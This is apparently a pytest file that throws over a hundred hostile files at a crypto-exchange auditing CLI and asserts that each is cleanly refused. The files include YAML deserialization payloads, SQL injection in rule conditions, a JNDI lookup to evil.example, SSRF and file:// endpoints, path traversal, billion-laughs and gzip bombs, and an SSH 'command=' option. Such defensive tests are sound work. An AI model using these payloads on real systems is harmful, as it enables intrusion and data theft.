"""Files from a stranger: configurations, rules, attack models, evidence, answers, waivers, signatures, lists of signers, vaults.

A hundred and more attempts to make the program run something, read or write something, reach somebody, take for ever or
take everything. Each ends as one clear refusal, or is taken for the harmless text it is; nothing happens beside.
"""

from __future__ import annotations

import base64
import json
import resource
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from auditor import threats
from tests import stage

PATIENCE = 5.0
MOST_MEMORY = 600 * 2**20
EVIDENCE: dict[str, Any] = {
    "schema": "auditor/evidence/1",
    "collected_at": "2026-11-20T09:00:00Z",
    "account": {"name": "main-okx", "exchange": "okx"},
    "api_keys": [{"label": "bot", "can_trade": True, "ip_bound": False}],
}
CONFIG: dict[str, Any] = {"version": 1, "accounts": [{"name": "main-okx", "exchange": "okx"}]}
RULE: dict[str, Any] = {
    "id": "key-mine",
    "title": "t",
    "severity": "low",
    "lifecycle": "stable",
    "since": "0.1",
    "applies_to": "api_key",
    "require": "api_key.ip_bound",
    "message": "m",
    "why": "w",
    "how_we_know": "h",
    "fix": {"effort": "low", "text": "x"},
    "cases": [
        {"name": "a", "api_keys": [{"ip_bound": True}], "expect": "pass"},
        {"name": "b", "api_keys": [{"ip_bound": False}], "expect": "fail"},
        {"name": "c", "api_keys": [{}], "expect": "unknown"},
    ],
}
WAIVER = {"finding": "0" * 16, "state": "0" * 16, "reason": "r", "owner": "o", "until": "2027-01-01"}
ANSWERS = {"schema": "auditor/evidence/1", "attested_at": "2026-11-01", "account": EVIDENCE["account"]}
ACTION = {
    "id": "mine",
    "text": "t",
    "have": ["sim_swap"],
    "gives": ["phone_codes"],
    "cost": 1,
    "when": "account.phone_is_factor",
}

KINDS: dict[str, tuple[str, tuple[str, ...]]] = {
    "config": ("auditor.yaml", ("audit", "--no-history", "--yes")),
    "rule": ("mine/key-mine.yaml", ("evaluate", "good.json", "--rules", "mine")),
    "rule checked": ("mine/key-mine.yaml", ("rules", "test", "mine")),
    "evidence": ("bad.json", ("evaluate", "bad.json")),
    "evidence yaml": ("bad.yaml", ("evaluate", "bad.yaml")),
    "evidence lines": ("bad.jsonl", ("evaluate", "bad.jsonl")),
    "evidence table": ("bad.parquet", ("evaluate", "bad.parquet")),
    "answers": ("attest/main-okx.yaml", ("audit", "--no-history", "--yes")),
    "waivers": ("waivers.yaml", ("evaluate", "good.json", "-c", "auditor.yaml")),
    "model": ("model.yaml", ("paths", "--evidence", "good.json", "--model", "model.yaml")),
    "signers": ("signers", ("verify", "report.json", "--allowed-signers", "signers")),
    "key": ("key.pub", ("verify", "report.json", "--key", "key.pub")),
    "envelope": ("report.json.dsse.json", ("verify", "report.json", "--key", "good.pub")),
    "report": ("stored.json", ("report", "stored.json")),
    "vault": ("vault.bin", ("vault", "list", "-c", "vaulted.yaml")),
}
"""What is attacked -> the file, and the command that reads it."""

LAUGHS = "a0: &a0 [x, x]\n" + "".join(f"a{n + 1}: &a{n + 1} [*a{n}, *a{n}, *a{n}, *a{n}]\n" for n in range(30))
YAML = {
    "a Python object": "a: !!python/object/apply:os.system ['touch pwned']\n",
    "a Python module": "a: !!python/module:antigravity\n",
    "a Python name": "a: !!python/name:os.system\n",
    "a new Python object": "a: !!python/object/new:subprocess.Popen [['touch', 'pwned']]\n",
    "a tag of its own": "%TAG ! tag:evil.example,2026:\n---\na: !run touch pwned\n",
    "a binary tag": "a: !!binary aGVsbG8=\n",
    "a set tag": "a: !!set {x, y}\n",
    "a billion laughs": LAUGHS,
    "an anchor": "version: &v 1\naccounts: *v\n",
    "an alias of itself": "a: &a [*a]\n",
    "a merge key": "a: &a {version: 1}\n<<: *a\n",
    "a merge key of a list": "<<: [{a: 1}, {b: 2}]\n",
    "brackets without end": "[" * 100_000,
    "braces without end": "{a: " * 50_000,
    "dashes without end": "- " * 50_000,
    "steps without end": "".join(f"{' ' * n}a:\n" for n in range(400)),
    "a question mark without end": "? " * 50_000,
    "a key of a megabyte": "k" * 2**20 + ": 1\n",
    "a number of a megabyte": "version: " + "9" * 2**20 + "\n",
    "half a million keys": "".join(f"k{n}: 1\n" for n in range(600_000)),
    "a key twice": "version: 1\nversion: 1\n",
    "a list as a key": "? [a, b]\n: 1\n",
    "nine megabytes of blanks": " " * (9 * 2**20),
    "nine megabytes of comments": "#" * (9 * 2**20),
    "a thousand documents": "--- 1\n" * 1000,
    "two million documents": "---\n" * (2 * 2**20 - 1),
    "a line break that few see": "version: 1\u2028accounts: []\n",
    "a next line that few see": "version: 1\x85accounts: []\n",
    "a NUL": "version: 1\0\n",
    "an escape": "version: \x1b[2J\n",
    "half a surrogate pair": '"\\ud800": 1\n',
    "bytes that are no text": b"\xff\xfe\x00version: 1",
    "another encoding": "version: 1\n".encode("utf-32"),
    "a gzip bomb": base64.b64decode("H4sIAAAAAAACA+3BMQEAAADCoPVPbQ0PoAAAAAAAAAAAAAAAAAAAAIC3AYbSVKsAQAAA"),
}
"""Attempts on the one reader of YAML and JSON, made through every file that it reads."""
READ_BY_IT = ("config", "rule", "evidence yaml", "answers", "waivers", "model")


def changed(table: dict[str, Any], **change: Any) -> str:
    return json.dumps({**table, **change})


def account(**change: Any) -> str:
    return changed(CONFIG, accounts=[{**CONFIG["accounts"][0], **change}])


def key(value: Any, name: str = "label") -> str:
    return changed(EVIDENCE, api_keys=[{**EVIDENCE["api_keys"][0], name: value}])


def action(**change: Any) -> str:
    return json.dumps({"version": 1, "actions": [{**ACTION, **change}]})


def many_ways() -> str:
    """Thirty states that are all needed, and four ways to each."""
    states = [f"s{number}" for number in range(30)]
    ways = [
        {**ACTION, "id": f"{state}_{cost}", "have": ["sim_swap"], "gives": [state], "cost": cost, "when": "TRUE"}
        for state in states
        for cost in range(1, 5)
    ]
    end = {"id": "end", "text": "t", "have": states, "gives": ["withdraw_funds"], "cost": 1}
    return json.dumps({"version": 1, "states": {state: {"text": "x"} for state in states}, "actions": [*ways, end]})


KEYS = {"apiKey": "env:A", "secret": "env:B", "password": "env:C"}
OTHERS: list[tuple[str, str, str | bytes]] = [
    # A configuration that points somewhere
    ("config", "an endpoint elsewhere", account(endpoint="https://evil.example", credentials=KEYS)),
    ("config", "an endpoint without TLS", account(endpoint="http://evil.example", credentials=KEYS)),
    ("config", "the metadata as endpoint", account(endpoint="http://169.254.169.254/", credentials=KEYS)),
    ("config", "an endpoint with a user", account(endpoint="http://127.0.0.1@evil.example", credentials=KEYS)),
    ("config", "a file as endpoint", account(endpoint="file:///etc/passwd", credentials=KEYS)),
    ("config", "a name that is a path", account(name="../../etc/cron.d/x")),
    ("config", "a name with a line break", account(name="a\nb")),
    ("config", "an exchange that is a module", account(exchange="os")),
    ("config", "an exchange that is a path", account(exchange="../twin/okx")),
    ("config", "an exchange that is private", account(exchange="_transport")),
    ("config", "a credential that is none", account(credentials={**KEYS, "secret": "expr:1+1"})),
    ("config", "a credential of Python", account(credentials={**KEYS, "secret": "${jndi:ldap://evil.example/x}"})),
    ("config", "a credential field too many", account(credentials={**KEYS, "proxy": "env:A"})),
    ("config", "a tag that is a command", account(tags=["$(touch pwned)"])),
    ("config", "answers that are a list", account(attestations=["a"])),
    ("config", "rules that are no file", changed(CONFIG, rules=["\0"])),
    ("config", "rules of the devices", changed(CONFIG, rules=["/dev"])),
    ("config", "waivers from a device", changed(CONFIG, waivers="/dev/zero")),
    ("config", "a database that is another", changed(CONFIG, history="mysql://evil.example/x")),
    ("config", "a database with a line break", changed(CONFIG, history="sqlite:///a\nb")),
    ("config", "a notice to a file", changed(CONFIG, notify=["/etc/passwd"])),
    ("config", "a plugin", changed(CONFIG, plugins=["evil"])),
    ("config", "a hook", changed(CONFIG, before="touch pwned")),
    ("config", "accounts by the hundred thousand", changed(CONFIG, accounts=[{"name": "a"}] * 110_000)),
    # A rule that is more than a condition
    ("rule", "a file in a condition", changed(RULE, require="read_text('/etc/passwd') = 'x'")),
    ("rule", "a table in a condition", changed(RULE, require="api_key.ip_bound IN (SELECT 1 FROM 'bad.csv')")),
    ("rule", "an end of the condition", changed(RULE, require="TRUE); COPY (SELECT 1) TO 'pwned'; --")),
    ("rule", "an extension", changed(RULE, require="TRUE; INSTALL httpfs; LOAD httpfs")),
    ("rule", "a setting", changed(RULE, require="current_setting('home_directory') = ''")),
    ("rule", "the environment", changed(RULE, require="getenv('HOME') = ''")),
    ("rule", "an answer for what is unknown", changed(RULE, require="api_key.ip_bound IS NOT NULL")),
    ("rule", "another answer for it", changed(RULE, require="coalesce(api_key.ip_bound, TRUE)")),
    ("rule", "a third answer for it", changed(RULE, require="CASE WHEN api_key.ip_bound THEN TRUE ELSE TRUE END")),
    ("rule", "a cast", changed(RULE, require="api_key.label::boolean")),
    ("rule", "a text without end", changed(RULE, require="api_key.label = repeat('x', 4000000000)")),
    ("rule", "an expression that explodes", changed(RULE, require="(api_key.label LIKE '" + "%a" * 5000 + "')")),
    ("rule", "a condition of a megabyte", changed(RULE, require=" OR ".join(["api_key.ip_bound"] * 60_000))),
    ("rule", "brackets in a condition", changed(RULE, require="(" * 5000 + "TRUE" + ")" * 5000)),
    ("rule", "negations in a condition", changed(RULE, require="NOT " * 20_000 + "TRUE")),
    ("rule", "an interval that asks", changed(RULE, require="api_key.created_at < now - INTERVAL (SELECT 1) DAY")),
    ("rule", "a comment", changed(RULE, require="api_key.ip_bound /* */ OR TRUE")),
    ("rule", "a parameter", changed(RULE, require="api_key.ip_bound = ?")),
    ("rule", "a fact that is an attribute", changed(RULE, require="api_key.__class__")),
    ("rule", "an id that is a path", changed(RULE, id="../../x")),
    ("rule", "an id of ours", changed(RULE, id="key-unrecognised")),
    ("rule", "an attribute in a message", changed(RULE, message="{api_key.__class__.__mro__}")),
    ("rule", "an index in a message", changed(RULE, message="{api_key.label[0]}")),
    ("rule", "a format in a message", changed(RULE, message="{api_key.label:>999999999}")),
    ("rule", "a global in a message", changed(RULE, message="{0.__init__.__globals__}")),
    ("rule", "a severity of its own", changed(RULE, severity="apocalyptic")),
    ("rule", "a schema from elsewhere", changed(RULE, **{"$ref": "http://evil.example/schema.json"})),
    ("rule checked", "a case of a million keys", changed(RULE, cases=[{"name": "a", "api_keys": [{}] * 300_000, "expect": "pass"}])),
    ("rule checked", "a case that lies", changed(RULE, cases=[{**RULE["cases"][0], "expect": "fail"}, *RULE["cases"][1:]])),
    # Evidence that is more than facts
    ("evidence", "a key of the prototype", changed(EVIDENCE, __proto__={"a": 1})),
    ("evidence", "a class", changed(EVIDENCE, **{"py/object": "os.system"})),
    ("evidence", "a fact that is an object", key({"$ne": 1})),
    ("evidence", "a fact of another type", key("yes", "ip_bound")),
    ("evidence", "a pass by hand", changed(EVIDENCE, findings=[{"rule": "x", "outcome": "pass"}])),
    ("evidence", "a mark of the engine", key(["api_key.ip_bound"], "unknown")),
    ("evidence", "an outcome among facts", key(True, "outcome")),
    ("evidence", "a reason of its own", changed(EVIDENCE, problems=[{"endpoint": "x", "reason": "all_is_well"}])),
    ("evidence", "a source of its own", changed(EVIDENCE, sources={"api_keys": {"by": "god"}})),
    ("evidence", "a source of what is no fact", changed(EVIDENCE, sources={"../x": {"by": "api"}})),
    ("evidence", "a time of the far future", changed(EVIDENCE, collected_at="9999-12-31T23:59:59Z")),
    ("evidence", "infinity", '{"schema": "auditor/evidence/1", "account": {"name": "a", "exchange": "x", "balance_usd": 1e999}}'),
    ("evidence", "a label of two megabytes", key("x" * (2 * 2**20))),
    ("evidence lines", "a line of four megabytes", key("x" * (4 * 2**20))),
    ("evidence lines", "brackets on a line", "[" * 100_000 + "\n"),
    ("evidence lines", "a hundred thousand lines of nothing", "null\n" * 100_000),
    ("evidence table", "a table that is text", "PAR1" + "x" * 100 + "PAR1"),
    ("evidence table", "a table with a length that lies", b"PAR1" + b"\xff" * 8 + b"\xff\xff\xff\x7f" + b"PAR1"),
    ("evidence table", "a table that is a query", "SELECT * FROM read_text('/etc/passwd')"),
    # Answers, waivers, models
    ("answers", "answers about another account", changed(ANSWERS, account={"name": "other", "exchange": "okx"})),
    ("answers", "what only an API can show", changed(ANSWERS, account={**EVIDENCE["account"], "key_inventory_complete": True})),
    ("answers", "a key talked away", changed(ANSWERS, api_keys=[{"label": "bot", "can_withdraw": False}])),
    ("answers", "answers of the future", changed(ANSWERS, attested_at="2031-01-01")),
    ("answers", "answers for ever", changed(ANSWERS, expires="2099-01-01", expires_days=10**9)),
    ("waivers", "all findings", json.dumps({"version": 1, "waivers": [{**WAIVER, "finding": "*"}]})),
    ("waivers", "all states", json.dumps({"version": 1, "waivers": [{**WAIVER, "state": "*"}]})),
    ("waivers", "a waiver for ever", json.dumps({"version": 1, "waivers": [{**WAIVER, "until": "2999-01-01"}]})),
    ("waivers", "a waiver without an owner", json.dumps({"version": 1, "waivers": [{**WAIVER, "owner": ""}]})),
    ("waivers", "ten thousand and one waivers", json.dumps({"version": 1, "waivers": [WAIVER] * 10_001})),
    ("model", "a query in a condition", action(when="(SELECT 1)")),
    ("model", "a file in a condition of a model", action(when="read_text('/etc/passwd') = 'x'")),
    ("model", "an answer for what is unknown in a model", action(when="account.phone_is_factor IS NULL")),
    ("model", "a capability that is not there", action(have=["magic"])),
    ("model", "an action of ours", action(id="take_over_number")),
    ("model", "a cost below nothing", action(cost=-100)),
    ("model", "a cost without end", action(cost=10**30)),
    ("model", "a hundred thousand actions", json.dumps({"version": 1, "actions": [{**ACTION, "id": f"a{n}"} for n in range(100_000)]})),
    ("model", "a goal that a million million ways lead to", many_ways()),
    ("model", "an action that can begin in a billion ways", action(any=[["sim_swap", "phish_page"]] * 30)),
    ("model", "a version of its own", json.dumps({"version": 99})),
    # Signatures and what holds secrets
    ("signers", "an option that runs", 'anna command="touch pwned" ssh-ed25519 AAAA\n'),
    ("signers", "an authority", "anna cert-authority ssh-ed25519 AAAA\n"),
    ("signers", "a quote without end", 'anna namespaces="' + "x" * 10_000 + "\n"),
    ("signers", "names without end", ",".join(["*"] * 200_000) + " ssh-ed25519 AAAA\n"),
    ("signers", "quotes that nest", 'a namespaces="' + '\\"' * 20_000 + '" ssh-ed25519 AAAA\n'),
    ("signers", "two megabytes of signers", "# x\n" * 600_000),
    ("signers", "no text", b"\x00\xff" * 1000),
    ("key", "a private key", "-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----\n"),
    ("key", "a key of another kind", "ssh-rsa AAAAB3NzaC1yc2E=\n"),
    ("key", "a key that is too short", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA==\n"),
    ("envelope", "an empty envelope", "{}"),
    ("envelope", "an envelope without signatures", json.dumps({"payloadType": "x", "payload": "", "signatures": []})),
    ("envelope", "an envelope of another type", json.dumps({"payloadType": "text/plain", "payload": "e30=", "signatures": [{"keyid": "x", "sig": "AA=="}]})),
    ("envelope", "files above the folder", json.dumps({
        "payloadType": "application/vnd.in-toto+json", "signatures": [{"keyid": "x", "sig": "AA=="}],
        "payload": base64.b64encode(json.dumps({"subject": [{"name": "../../../etc/passwd", "digest": {"sha256": "0" * 64}}]}).encode()).decode(),
    })),
    ("envelope", "signatures without end", json.dumps({"payloadType": "x", "payload": "e30=", "signatures": [{"keyid": "x", "sig": "AA=="}] * 100_000})),
    ("envelope", "an envelope of brackets", "[" * 200_000),
    ("report", "a report that is none", json.dumps({"schema": "auditor/report/1"})),
    ("report", "a report of brackets", '{"schema": "auditor/report/1", "run": ' + "[" * 100_000),
    ("report", "a report of another schema", json.dumps({"schema": "auditor/report/2"})),
    ("vault", "a vault that is text", "secret: x\n"),
    ("vault", "an empty vault", b""),
    ("vault", "a vault of zeros", b"\0" * 4096),
    ("vault", "a vault of ones", b"\xff" * 4096),
    ("vault", "a vault without end", b"\0" * (20 * 2**20)),
]  # fmt: skip
ATTEMPTS = [(kind, f"{kind}: {name}", text) for kind in READ_BY_IT for name, text in YAML.items()] + [
    (kind, f"{kind}: {name}", text) for kind, name, text in OTHERS
]
HARMLESS = {"evidence: a label of two megabytes", "evidence lines: a line of four megabytes"}
"""Long, and nothing else."""


_left: list[str] | None = None


def _hook(event: str, args: tuple[Any, ...]) -> None:
    if _left is None:
        return
    if event in {
        "socket.connect",
        "socket.getaddrinfo",
        "socket.sendto",
        "subprocess.Popen",
        "os.system",
        "os.exec",
        "os.posix_spawn",
    }:
        _left.append(event)
    if event == "open" and str(args[0]) in {"/etc/passwd", "/etc/cron.d/x"}:
        _left.append(str(args[0]))


sys.addaudithook(_hook)


@contextmanager
def watched() -> Iterator[list[str]]:
    """Everything that was reached, started or read beside what was asked for."""
    global _left
    _left = []
    try:
        yield _left
    finally:
        _left = None


@pytest.fixture(scope="module")
def mine(tmp_path_factory: pytest.TempPathFactory) -> stage.Stage:
    made = stage.Stage(tmp_path_factory.mktemp("strangers"))
    made.write("good.json", json.dumps(EVIDENCE))
    made.write("auditor.yaml", json.dumps(CONFIG))
    made.write("passphrase.txt", "a passphrase that is long enough\n")
    made.write("vaulted.yaml", changed(CONFIG, vault={"file": "vault.bin", "passphrase": "file:passphrase.txt"}))
    assert made.run("evaluate", "good.json", "-f", "json", "-o", "report.json", "--sign").code == 12
    made.write("good.pub", made.run("verify", "--show-key").out)
    assert made.run("verify", "report.json", "--key", "good.pub").code == 0
    return made


def state(mine: stage.Stage) -> dict[str, tuple[int, int]]:
    return {str(path): (path.lstat().st_size, path.lstat().st_mtime_ns) for path in mine.home.rglob("*")}


@contextmanager
def laid(mine: stage.Stage, name: str, text: str | bytes) -> Iterator[None]:
    """The file of a stranger in its place, and afterwards what was there before."""
    path = mine.work / name
    before = path.read_bytes() if path.exists() else None
    mine.write(name, text)
    try:
        yield
    finally:
        if before is None:
            path.unlink()
        else:
            path.write_bytes(before)


def test_there_are_more_than_a_hundred() -> None:
    assert len({name for _, name, _ in ATTEMPTS}) == len(ATTEMPTS) > 100
    assert {kind for kind, _, _ in ATTEMPTS} == set(KINDS)


def test_the_files_that_are_attacked_are_fine_without_an_attack(mine: stage.Stage) -> None:
    """Otherwise each attempt would be refused for another reason than its own."""
    fine = {
        "rule": json.dumps(RULE),
        "rule checked": json.dumps(RULE),
        "evidence": json.dumps(EVIDENCE),
        "model": action(),
    }
    fine |= {
        "waivers": json.dumps({"version": 1, "waivers": [WAIVER]}),
        "answers": json.dumps(ANSWERS),
        "config": account(),
    }
    for kind, text in fine.items():
        name, args = KINDS[kind]
        with laid(mine, name, text):
            ran = mine.run(*args)
        assert ran.code in {0, 4, 10, 11, 12, 13}, (kind, ran.err[:300])


@pytest.mark.parametrize(("kind", "attempt", "text"), ATTEMPTS, ids=[name for _, name, _ in ATTEMPTS])
def test_an_attempt_is_refused_and_does_nothing(mine: stage.Stage, kind: str, attempt: str, text: str | bytes) -> None:
    name, args = KINDS[kind]
    threats.analyst.cache_clear()  # a process reads a model once
    with laid(mine, name, text):
        before = state(mine)
        begun, peak = time.process_time(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        with watched() as left:
            ran = mine.run(*args)
        took = time.process_time() - begun
        grown = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak) * 1024
        after = state(mine)
    assert left == []
    assert after == before and not list(mine.home.rglob("pwned"))
    assert took < PATIENCE and grown < MOST_MEMORY, (took, grown)
    if attempt in HARMLESS:
        assert ran.code == 12 and ran.err == "" and len(ran.out) < 50_000
        return
    assert ran.code in {2, 3}, (ran.code, ran.err[:500], ran.out[:200])
    assert ran.out == "" or kind == "rule checked"
    lines = ran.err.splitlines()
    assert kind == "rule checked" or (lines and all(line.startswith(("error: ", "  hint: ")) for line in lines)), (
        ran.err[:500]
    )
    assert len(lines) <= 65 and all(len(line) < 1000 for line in lines)
    assert not [char for char in ran.err if ord(char) < 32 and char != "\n"]


@pytest.mark.parametrize(
    "args",
    [
        ("evaluate", "good.json", "-c", "stranger.yaml", "-f", "json"),
        ("rules", "list", "-c", "stranger.yaml"),
        ("waivers", "list", "-c", "stranger.yaml"),
        ("waivers", "check", "-c", "stranger.yaml", "--report", "report.json"),
    ],
    ids=" ".join,
)
def test_looking_at_a_strangers_configuration_uses_no_credential_of_it(
    mine: stage.Stage, args: tuple[str, ...]
) -> None:
    """`cmd:` runs what it says when the credential is needed: for an audit, and for nothing that only looks."""
    run = f"cmd:/usr/bin/touch {mine.home}/pwned"
    table = account(credentials=dict.fromkeys(KEYS, run), endpoint="http://127.0.0.1:9")
    with laid(mine, "stranger.yaml", table), watched() as left:
        ran = mine.run(*args)
    assert ran.code != 1
    assert left == [] and not (mine.home / "pwned").exists()
    assert Path(mine.home).exists()
